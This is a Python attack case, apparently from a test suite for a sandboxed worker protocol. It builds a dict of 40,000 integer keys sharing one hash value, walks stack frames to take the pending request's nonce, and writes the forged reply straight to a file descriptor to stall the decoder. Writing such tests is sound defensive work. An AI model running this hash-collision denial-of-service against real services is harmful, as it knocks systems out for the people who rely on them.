# attack: V17, R21
# tries: Answer with a dict whose keys all have the same hash: whoever decodes it compares for minutes.
# walls: the wire takes no integer key beyond 64 bits
# expect: passed double=crashed
# control: none: without the rule the worker itself would stand still for minutes
import os
import struct
import sys
import time

PRIME = (1 << 61) - 1  # hash(n) is n modulo this number
COUNT = 40_000
PARTS = [b"M" + struct.pack("<I", COUNT)]
for number in range(1, COUNT + 1):
    key = (number * 8 * PRIME).to_bytes(12, "little")
    PARTS.append(b"J" + struct.pack("<I", 12) + key + b"N")
PAYLOAD = b"".join(PARTS)

def pending():
    """The frame that is being answered: it lies in the memory of the one who answers."""
    above = sys._getframe()
    while above is not None:
        for value in list(above.f_locals.values()):
            if hasattr(value, "nonce") and hasattr(value, "payload"):
                return value
        above = above.f_back
    raise LookupError("no frame")


def send(kind, nonce, payload):
    data = struct.pack("<BQQ", kind, nonce, len(payload)) + payload
    while data:
        data = data[os.write(4, data) :]


def double(x):
    if x.shape == (3,):
        send(8, pending().nonce, PAYLOAD)
        time.sleep(30)
    return 2 * x


def apply(function, x):
    return function(x)
